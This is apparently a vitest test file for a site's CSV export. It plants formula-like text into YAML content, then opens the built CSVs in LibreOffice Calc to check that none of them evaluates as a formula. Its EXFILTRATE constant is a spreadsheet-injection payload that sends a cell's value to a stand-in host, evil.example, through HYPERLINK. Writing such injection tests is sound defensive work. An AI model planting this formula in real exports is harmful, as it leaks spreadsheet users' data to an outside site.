// Every CSV file the site publishes opens in LibreOffice Calc without a single formula, even when a data file's
// text begins with "=", "+", "-" or "@": a summary "=HYPERLINK(…&B3…)" must stay text, or opening results.csv would
// send another cell's value to any site. Built once from a copy of content/ whose text fields start like formulas.
import { cpSync, readdirSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { afterAll, describe, expect, it } from 'vitest';
import { parseDocument } from 'yaml';
import { formulasIn, openCsvInCalc } from '../support/libreoffice.ts';
import { copyContent, DIST, ROOT, runBuild } from '../support/site.ts';

const EXFILTRATE = '=HYPERLINK("https://evil.example/?x="&B3;"Xem văn bản gốc")';

/** Sets one value in a YAML file of the copy, keeping the rest of the file as it is. */
function setIn(file: string, path: (string | number)[], value: string): boolean {
  const doc = parseDocument(readFileSync(file, 'utf8'));
  if (!doc.hasIn(path)) return false;
  doc.setIn(path, value);
  writeFileSync(file, doc.toString());
  return true;
}

const content = copyContent('csv');
const out = join(content, '..', 'site');
// content/ has no published report yet: the fictional sample reports stand in, so the report CSVs have rows.
cpSync(join(ROOT, 'test', 'fixtures', 'reports'), join(content, 'reports'), { recursive: true });
const planted = [
  setIn(join(content, 'tasks.yaml'), [0, 'title'], EXFILTRATE),
  setIn(join(content, 'agencies.yaml'), [0, 'name'], '@SUM(1;2) Bộ'),
  setIn(join(content, 'targets.yaml'), [0, 'measure'], '+1+2 chỉ tiêu'),
  // The first task summary of every yearly report of 2025 gets the exfiltrating formula.
  ...readdirSync(join(content, 'reports', '2025'))
    .filter((f) => f !== 'tong-hop.yaml')
    .map((f) => setIn(join(content, 'reports', '2025', f), ['tasks', 0, 'summary'], EXFILTRATE)),
];
const build = await runBuild({ CONTENT_DIR: content, OUT_DIR: out, SITE_BASE: '/' });
afterAll(() => rmSync(join(content, '..'), { recursive: true, force: true }));

const csvFiles = (dir: string) =>
  readdirSync(join(dir, 'data'))
    .filter((f) => f.endsWith('.csv'))
    .map((f) => join(dir, 'data', f));
let opened: ReturnType<typeof openCsvInCalc> | undefined;
const plantedSheets = () => (opened ??= openCsvInCalc(csvFiles(out)));

describe('open-data CSV files opened in LibreOffice Calc', () => {
  it('are built from text fields that begin like formulas', () => {
    expect(build.code, build.stderr).toBe(0);
    expect(planted.every(Boolean)).toBe(true);
  });

  it('hold no formula, in any file of the planted build, and show the planted text as text', () => {
    const sheets = plantedSheets();
    expect(sheets.size).toBeGreaterThanOrEqual(5);
    expect(formulasIn(sheets)).toEqual([]);
    const texts = [...sheets.values()].flat(2).map((c) => c.text);
    expect(texts).toContain(`'${EXFILTRATE}`);
    expect(texts.filter((t) => t === `'${EXFILTRATE}`).length).toBeGreaterThanOrEqual(2);
    expect(texts).toContain("'@SUM(1;2) Bộ");
  });

  it('keep numbers as numbers: task numbers, years, counts and percentages', () => {
    const sheets = plantedSheets();
    const column = (file: string, name: string) => {
      const [head, ...rows] = sheets.get(file)!;
      const i = head!.findIndex((c) => c.text === name);
      return rows.filter((r) => r[i]?.text).map((r) => r[i]!.type);
    };
    for (const [file, name] of [
      ['tasks.csv', 'number'],
      ['agencies.csv', 'lead_count'],
      ['unit-years.csv', 'year'],
      ['submissions.csv', 'percent'],
    ] as const) {
      const types = column(file, name);
      expect(types.length, `${file} ${name}`).toBeGreaterThan(0);
      expect(new Set(types), `${file} ${name}`).toEqual(new Set(['float']));
    }
  });

  // Files built from another data folder must not pass for the commit's open data.
  it('come from a build that says it is not a build of the commit (build-info.json)', () => {
    expect((JSON.parse(readFileSync(join(out, 'build-info.json'), 'utf8')) as { dirty: boolean }).dirty).toBe(true);
  });

  it('hold no formula in the site built from content/ either', () => {
    expect(formulasIn(openCsvInCalc(csvFiles(DIST)))).toEqual([]);
  });
});
